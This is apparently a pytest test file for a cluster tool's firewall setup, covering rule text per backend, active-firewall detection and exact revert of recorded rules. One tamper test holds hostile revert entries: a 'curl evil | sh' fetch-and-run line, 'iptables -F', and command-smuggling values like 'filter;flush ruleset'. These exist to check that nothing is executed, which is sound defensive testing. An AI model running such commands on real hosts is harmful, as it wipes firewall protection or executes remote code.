"""setup firewall: the rule text per backend, which firewall is active (from recorded facts),
and that --revert removes exactly what --apply recorded (against a simulated firewall)."""

from __future__ import annotations

import json

import pytest
from doctor_fixtures import facts_of, make_survey, reparsed, sheets_of

from trainfleet.cluster import load_cluster
from trainfleet.doctor.facts import Firewall
from trainfleet.errors import SetupError
from trainfleet.remote import Failure, NodeResult
from trainfleet.setup.firewall import apply, record, ruleset
from trainfleet.setup.result import SetupResult

pytestmark = pytest.mark.unit

NFT_RULESET = """\
table ip filter {
	chain INPUT {
		type filter hook input priority filter; policy accept;
		tcp dport 22 accept
		tcp flags syn drop
	}
}
table inet filter {
	chain input {
		type filter hook input priority filter; policy drop;
		iifname "lo" accept
	}
	chain forward {
		type filter hook forward priority filter; policy drop;
	}
}
table inet open {
	chain input {
		type filter hook input priority filter; policy accept;
	}
}
"""
IPTABLES_DROP = (
    "-P INPUT ACCEPT\n-A INPUT -p tcp --dport 22 -j ACCEPT\n-A INPUT -p tcp --syn -j DROP\n"
)


def test_rule_text_per_backend():
    [rule] = ruleset.allow_rules("iptables", "ens14f0", ["10.0.0.12"])
    assert rule.text == (
        "iptables -I INPUT -i ens14f0 -s 10.0.0.12/32 -p tcp -m comment --comment trainfleet "
        "-j ACCEPT"
    )
    assert rule.revert == ("iptables", "-D", *rule.apply[2:])  # -I ... -> -D with the same spec
    chain = ruleset.NftChain("inet", "filter", "input", True)
    [nft] = ruleset.allow_rules("nftables", "eth0", ["10.0.0.12"], chains=[chain])
    assert nft.text == (
        "nft insert rule inet filter input iifname eth0 ip saddr 10.0.0.12 meta l4proto tcp "
        "accept comment trainfleet"
    )
    assert nft.revert == ("nft", "delete", "rule", "inet", "filter", "input", "handle")
    [ufw] = ruleset.allow_rules("ufw", "eth0", ["10.0.0.12"])
    assert (
        ufw.text
        == "ufw insert 1 allow in on eth0 from 10.0.0.12 to any proto tcp comment trainfleet"
    )
    assert ufw.revert == ("ufw", "delete", *ufw.apply[3:-2])
    runtime, permanent = ruleset.allow_rules("firewalld", "eth0", ["10.0.0.12"], zone="internal")
    rich = (
        'rule family="ipv4" source address="10.0.0.12/32" port port="1-65535" protocol="tcp" accept'
    )
    assert runtime.apply == ("firewall-cmd", "--zone=internal", f"--add-rich-rule={rich}")
    assert permanent.revert == (
        "firewall-cmd",
        "--zone=internal",
        "--permanent",
        f"--remove-rich-rule={rich}",
    )


def test_one_rule_per_peer_and_never_a_disable():
    rules = ruleset.allow_rules("iptables", "eth0", ["10.0.0.11", "10.0.0.13"])
    assert [r.peer for r in rules] == ["10.0.0.11", "10.0.0.13"]
    for backend in ruleset.BACKENDS:
        chains = [ruleset.NftChain("inet", "filter", "input", True)]
        for rule in ruleset.allow_rules(backend, "eth0", ["10.0.0.11"], chains=chains):
            words = " ".join(rule.apply).lower()
            assert "disable" not in words and "-F" not in rule.apply and "flush" not in words


def _fw(sheet: dict) -> Firewall:
    """A node's `firewall` facts, parsed as collect parses its fact sheet."""
    return facts_of({"firewall": sheet}).firewall


def test_which_firewall_is_active():
    assert ruleset.active_backends(_fw({"ufw": {"rc": 0, "out": "Status: active\n"}})) == ["ufw"]
    firewalld = _fw({"firewalld": {"rc": 0, "out": "running\n"}})
    assert ruleset.active_backends(firewalld) == ["firewalld"]
    iptables = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
    assert ruleset.active_backends(_fw(iptables)) == ["iptables"]
    both = _fw({**iptables, "nft": {"rc": 0, "out": NFT_RULESET}})
    assert ruleset.active_backends(both) == ["iptables", "nftables"]
    # iptables-nft's own table is left to iptables; only the other filtering chain is opened
    assert ruleset.nft_chains_to_open(both, skip_iptables=True) == [
        ruleset.NftChain("inet", "filter", "input", True)
    ]
    nothing = {"iptables": {"rc": 0, "out": "-P INPUT ACCEPT\n"}, "nft": {"rc": 0, "out": ""}}
    assert ruleset.active_backends(_fw(nothing)) == []
    not_root = {"iptables": {"rc": 4, "out": "", "err": "Permission denied (you must be root)"}}
    assert ruleset.active_backends(_fw(not_root)) == []


def test_nft_ruleset_parsing_finds_input_base_chains():
    chains = ruleset.nft_input_chains(NFT_RULESET)
    assert [(c.family, c.table, c.chain, c.filters) for c in chains] == [
        ("ip", "filter", "INPUT", True),
        ("inet", "filter", "input", True),
        ("inet", "open", "input", False),
    ]
    assert ruleset.nft_handle('insert rule ... comment "trainfleet" # handle 7\n') == "7"


def test_plan_rules_opens_the_blocked_node_to_its_peers_data_addresses(tmp_path):
    survey = make_survey(tmp_path)
    sheets = sheets_of(survey)
    sheets["gpu-node-1"]["firewall"] = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
    survey = reparsed(survey, sheets)
    rules, notes = apply.plan_rules(survey, ["gpu-node-1", "gpu-node-2"], zones={})
    assert [r.text.split(" -s ")[1].split()[0] for r in rules["gpu-node-1"]] == [
        "10.213.207.12/32",
        "10.213.207.13/32",
    ]
    assert all(" -i ens14f0 " in r.text for r in rules["gpu-node-1"])
    assert "gpu-node-2" not in rules and notes[0].startswith("gpu-node-2: TCP to it is dropped")


class FakeFirewalls:
    """iptables INPUT and one nftables chain per node, driven by the argvs setup sends."""

    def __init__(self, hosts):
        self.iptables = {h: [("-p", "tcp", "--dport", "22", "-j", "ACCEPT")] for h in hosts}
        self.nft = {h: {1: "tcp flags syn drop"} for h in hosts}
        self.handles = 10
        self.echo_handles = True
        """False: `nft --echo --handle insert` prints the rule without `# handle N`."""
        self.list_fails = False
        """True: `nft -a list chain` fails (ssh or sudo did not get through)."""

    def run(self, nodes, argv, *, timeout=None, stdin=None):
        return [self._one(n.host, argv[n.host] if isinstance(argv, dict) else argv) for n in nodes]

    def _one(self, host, argv):
        out, err, rc = "", "", 0
        if argv == ["id", "-u"]:
            out = "0\n"
        elif argv[:3] == ["iptables", "-I", "INPUT"]:
            self.iptables[host].insert(0, tuple(argv[3:]))
        elif argv[:3] == ["iptables", "-D", "INPUT"]:
            if tuple(argv[3:]) in self.iptables[host]:
                self.iptables[host].remove(tuple(argv[3:]))
            else:
                rc, err = 1, "iptables: Bad rule (does a matching rule exist in that chain?).\n"
        elif argv[:4] == ["nft", "--echo", "--handle", "insert"]:
            self.handles += 1
            # as nft prints a rule: its strings quoted
            words = [f'"{w}"' if argv[i - 1] in ("iifname", "comment") else w
                     for i, w in enumerate(argv) if i >= 8]  # fmt: skip
            self.nft[host][self.handles] = " ".join(words)
            out = f"insert rule {' '.join(argv[5:8] + words)}"
            out += f" # handle {self.handles}\n" if self.echo_handles else "\n"
        elif argv[:3] == ["nft", "-a", "list"]:
            if self.list_fails:
                rc, err = 255, "ssh: connect to host gpu-node-2 port 22: Connection refused\n"
            out = "".join(f"\t\t{text} # handle {h}\n" for h, text in self.nft[host].items())
        elif argv[:3] == ["nft", "delete", "rule"]:
            self.nft[host].pop(int(argv[-1]))
        else:
            raise AssertionError(argv)
        failure = Failure.NONE if rc == 0 else Failure.COMMAND_FAILED
        return NodeResult(
            node=host, returncode=rc, stdout=out, stderr=err, duration_s=0, failure=failure
        )


def _two_nodes(monkeypatch):
    """A cluster of two nodes whose firewalls are FakeFirewalls; and the rules setup would add:
    iptables on gpu-node-1, an nftables chain on gpu-node-2."""
    cluster = load_cluster(hosts="gpu-node-1,gpu-node-2")
    fake = FakeFirewalls(["gpu-node-1", "gpu-node-2"])
    monkeypatch.setattr(apply, "run_on_nodes", fake.run)
    monkeypatch.setattr(record, "run_on_nodes", fake.run)
    chain = ruleset.NftChain("inet", "filter", "input", True)
    rules = {
        "gpu-node-1": ruleset.allow_rules("iptables", "eth0", ["10.0.0.12"]),
        "gpu-node-2": ruleset.allow_rules("nftables", "eth0", ["10.0.0.11"], chains=[chain]),
    }
    return cluster, fake, rules


def _applied(tmp_path, monkeypatch):
    cluster, fake, rules = _two_nodes(monkeypatch)
    state_file = tmp_path / "state.json"
    apply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
    return cluster, fake, state_file


def test_revert_removes_exactly_what_apply_recorded(tmp_path, monkeypatch):
    cluster, fake, rules = _two_nodes(monkeypatch)
    # the user's own rule, identical but for the comment, must survive the revert
    user_rule = ("-i", "eth0", "-s", "10.0.0.12/32", "-p", "tcp", "-j", "ACCEPT")
    fake.iptables["gpu-node-1"].append(user_rule)
    before_ipt = {h: list(r) for h, r in fake.iptables.items()}
    before_nft = {h: dict(r) for h, r in fake.nft.items()}
    state_file = str(tmp_path / "cluster.yaml.firewall.json")
    applied = SetupResult(step="firewall")
    apply.apply_rules(cluster, rules, state_file, applied)
    assert len(applied.changes) == 2 and fake.iptables != before_ipt and fake.nft != before_nft
    state = json.loads((tmp_path / "cluster.yaml.firewall.json").read_text())
    assert state["nodes"]["gpu-node-2"][0]["revert"][-2:] == ["handle", "11"]

    reverted = SetupResult(step="firewall")
    record.revert_rules(cluster, state_file, reverted)
    assert fake.iptables == before_ipt and fake.nft == before_nft
    assert len(reverted.changes) == 2 and not (tmp_path / "cluster.yaml.firewall.json").exists()


def test_revert_notes_rules_already_gone_and_leaves_a_reused_handle_alone(tmp_path, monkeypatch):
    cluster, fake, state_file = _applied(tmp_path, monkeypatch)
    fake.iptables["gpu-node-1"].pop(0)  # someone removed it by hand
    fake.nft["gpu-node-2"][11] = "tcp dport 80 accept"  # the handle now names another rule
    result = SetupResult(step="firewall")
    record.revert_rules(cluster, str(state_file), result)
    assert result.changes == [] and len(result.notes) == 2
    assert all("already gone" in note for note in result.notes)
    assert fake.nft["gpu-node-2"][11] == "tcp dport 80 accept"  # not someone else's rule


def test_a_recorded_handle_never_matches_a_longer_one(tmp_path, monkeypatch):
    """Handle 11 is not 112: an admin's rule (even one that says trainfleet) survives (#17)."""
    cluster, fake, state_file = _applied(tmp_path, monkeypatch)
    admins = fake.nft["gpu-node-2"].pop(11)
    fake.nft["gpu-node-2"][112] = admins
    result = SetupResult(step="firewall")
    record.revert_rules(cluster, str(state_file), result)
    assert fake.nft["gpu-node-2"][112] == admins
    assert any("gpu-node-2: already gone" in n for n in result.notes)


def test_revert_finds_a_rule_nft_printed_no_handle_for_by_its_comment_and_match(
    tmp_path, monkeypatch
):
    """F11: the rule was added but nft echoed no handle ("?" recorded); --revert removes it,
    not someone's identical rule without the comment, and then the state file goes."""
    cluster, fake, rules = _two_nodes(monkeypatch)
    fake.echo_handles = False
    users = 'iifname "eth0" ip saddr 10.0.0.11 meta l4proto tcp accept'  # theirs: no comment
    fake.nft["gpu-node-2"][5] = users
    before = {h: dict(r) for h, r in fake.nft.items()}
    state_file = tmp_path / "state.json"
    applied = SetupResult(step="firewall")
    apply.apply_rules(cluster, rules, str(state_file), applied)
    assert json.loads(state_file.read_text())["nodes"]["gpu-node-2"][0]["revert"][-1] == "?"
    assert any("gpu-node-2: nft printed no handle" in n for n in applied.notes)
    assert fake.nft["gpu-node-2"] != before["gpu-node-2"]

    reverted = SetupResult(step="firewall")
    record.revert_rules(cluster, str(state_file), reverted)
    assert fake.nft == before and fake.nft["gpu-node-2"][5] == users
    assert ("gpu-node-2", "removed (nftables): " + rules["gpu-node-2"][0].text) in [
        (c.node, c.what) for c in reverted.changes
    ]
    assert not any("already gone" in n for n in reverted.notes)
    assert not state_file.exists()


def test_revert_keeps_a_rule_it_cannot_tell_apart_and_says_to_remove_it_by_hand(
    tmp_path, monkeypatch
):
    """F11: no handle was echoed and the chain holds two rules exactly like it (or the chain
    could not be listed): never "already gone", and the state file keeps the entry."""
    cluster, fake, rules = _two_nodes(monkeypatch)
    fake.echo_handles = False
    state_file = tmp_path / "state.json"
    apply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
    ours = fake.nft["gpu-node-2"][11]
    fake.nft["gpu-node-2"][12] = ours  # the same rule, comment and all, added again by someone
    before = {h: dict(r) for h, r in fake.nft.items()}
    result = SetupResult(step="firewall")
    with pytest.raises(SetupError) as raised:
        record.revert_rules(cluster, str(state_file), result)
    what = raised.value.what
    assert "gpu-node-2: `nft insert rule inet filter input iifname eth0 ip saddr 10.0.0.11" in what
    assert "may still be there" in what and "remove it by hand" in what
    assert "nft -a list chain inet filter input" in what
    assert str(state_file) in raised.value.fix
    assert not any("already gone" in n for n in result.notes)
    assert fake.nft["gpu-node-2"] == before["gpu-node-2"]  # neither was touched
    state = json.loads(state_file.read_text())
    assert list(state["nodes"]) == ["gpu-node-1", "gpu-node-2"]
    assert state["nodes"]["gpu-node-1"] == []  # the iptables rule, removed, left it
    assert [e["revert"][-1] for e in state["nodes"]["gpu-node-2"]] == ["?"]

    # removed by hand: the next --revert finds it gone and the state file goes
    del fake.nft["gpu-node-2"][12], fake.nft["gpu-node-2"][11]
    again = SetupResult(step="firewall")
    record.revert_rules(cluster, str(state_file), again)
    assert any("gpu-node-2: already gone" in n for n in again.notes)
    assert not state_file.exists()

    # a chain that cannot be listed tells nothing: the entry stays, with or without a handle
    for echoed in (False, True):
        cluster, fake, rules = _two_nodes(monkeypatch)
        fake.echo_handles = echoed
        apply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
        fake.list_fails = True
        with pytest.raises(SetupError, match="listing its chain .*Connection refused"):
            record.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
        assert len(json.loads(state_file.read_text())["nodes"]["gpu-node-2"]) == 1
        assert len(fake.nft["gpu-node-2"]) == 2
        state_file.unlink()


def test_the_state_file_is_private_and_an_edited_one_runs_nothing(tmp_path, monkeypatch):
    cluster, fake, state_file = _applied(tmp_path, monkeypatch)
    assert state_file.stat().st_mode & 0o777 == 0o600
    state = json.loads(state_file.read_text())
    good = json.dumps(state)
    ran: list = []
    monkeypatch.setattr(record, "run_on_nodes", lambda *a, **k: ran.append(a) or [])
    for evil in (
        ["sh", "-c", "curl evil | sh"],
        ["iptables", "-F"],
        ["iptables", "-D", "INPUT", "-i", "eth0", "-s", "0.0.0.0/0", "-j", "ACCEPT"],
        ["nft", "delete", "rule", "inet", "filter;flush ruleset", "input", "handle", "11"],
        "iptables -D INPUT",
        ["nft", "delete"],
    ):
        state["nodes"]["gpu-node-1"][0]["revert"] = evil
        state_file.write_text(json.dumps(state))
        with pytest.raises(SetupError, match="entry 1 of gpu-node-1 is not a rule") as err:
            record.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
        assert "nothing was run" in err.value.fix and ran == []
    for broken in ("[]", '{"nodes": [1]}', '{"nodes": {"gpu-node-1": [7]}}'):
        state_file.write_text(broken)
        with pytest.raises(SetupError, match="not a"):
            record.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
    state_file.write_text(good)
    record.load_state(str(state_file))  # what --apply wrote passes


def test_revert_without_a_state_file_says_so(tmp_path):
    cluster = load_cluster(hosts="gpu-node-1")
    with pytest.raises(SetupError, match="no firewall state file") as err:
        record.revert_rules(cluster, str(tmp_path / "gone.json"), SetupResult(step="firewall"))
    assert "--state" in err.value.fix


def test_what_a_node_reports_never_becomes_a_rule_for_any_address(tmp_path):
    survey = make_survey(tmp_path)
    sheets = sheets_of(survey)
    sheets["gpu-node-1"]["firewall"] = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
    for entry in sheets["gpu-node-3"]["interfaces"]:
        entry["ipv4"] = ["0.0.0.0/0"]
    rules, notes = apply.plan_rules(reparsed(survey, sheets), ["gpu-node-1"], zones={})
    assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
    assert any("gpu-node-3 reports '0.0.0.0'" in n for n in notes), notes
    # no interface with a route: a note, never `-i None`
    sheets["gpu-node-1"]["interfaces"] = []
    sheets["gpu-node-1"]["route_to_master"] = {}
    rules, notes = apply.plan_rules(reparsed(survey, sheets), ["gpu-node-1"], zones={})
    assert rules == {} and "no rule for it" in notes[-1]


def test_a_rule_opens_only_to_an_address_this_machine_knows_the_peer_by(tmp_path):
    """F7: gpu-node-3 reports 198.51.100.66 on its data interface, an address neither its name
    nor ssh's connection knows it by: no rule for it, and a note naming node and address."""
    survey = make_survey(tmp_path)
    sheets = sheets_of(survey)
    sheets["gpu-node-1"]["firewall"] = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
    [data] = [e for e in sheets["gpu-node-3"]["interfaces"] if e["name"] == "ens14f2"]
    data["ipv4"] = ["198.51.100.66/24"]
    survey = reparsed(survey, sheets)
    rules, notes = apply.plan_rules(survey, ["gpu-node-1"], zones={})
    assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
    [note] = [n for n in notes if "198.51.100.66" in n]
    assert note.startswith("gpu-node-3 reports 198.51.100.66 as its address")
    assert "(10.213.207.13)" in note and "no rule on gpu-node-1" in note
    # what this machine resolves the node's name in the cluster file to counts, for that node
    resolved = {"gpu-node-2": ["198.51.100.66"]}
    rules, _ = apply.plan_rules(survey, ["gpu-node-1"], zones={}, resolved=resolved)
    assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
    resolved = {"gpu-node-3": ["198.51.100.66"]}
    rules, notes = apply.plan_rules(survey, ["gpu-node-1"], zones={}, resolved=resolved)
    assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12", "198.51.100.66"]
    assert not any("198.51.100.66" in n for n in notes)


def test_the_addresses_a_peer_is_known_by_come_from_this_machine_only():
    cluster = load_cluster(hosts="10.0.0.11,gpu-node-2,gpu-node-3")
    connected = {"10.0.0.11": "10.0.0.11", "gpu-node-2": "10.0.0.12", "gpu-node-3": None}
    resolved = {"gpu-node-2": ["10.1.0.12", "127.0.1.1"], "gpu-node-3": ["0.0.0.0"]}
    assert apply.trusted_addresses(cluster, connected, resolved) == {
        "10.0.0.11": {"10.0.0.11"},
        "gpu-node-2": {"10.0.0.12", "10.1.0.12"},  # never loopback
        "gpu-node-3": set(),
    }
    assert apply.resolve_names(load_cluster(hosts="127.0.0.1")) == {"127.0.0.1": ["127.0.0.1"]}


def test_nft_names_from_a_nodes_ruleset_are_plain_words():
    hostile = NFT_RULESET.replace("table inet filter {", "table inet filter;flush {", 1)
    names = [(c.family, c.table, c.chain) for c in ruleset.nft_input_chains(hostile)]
    assert ("inet", "filter;flush", "input") not in names
    assert ("ip", "filter", "INPUT") in names
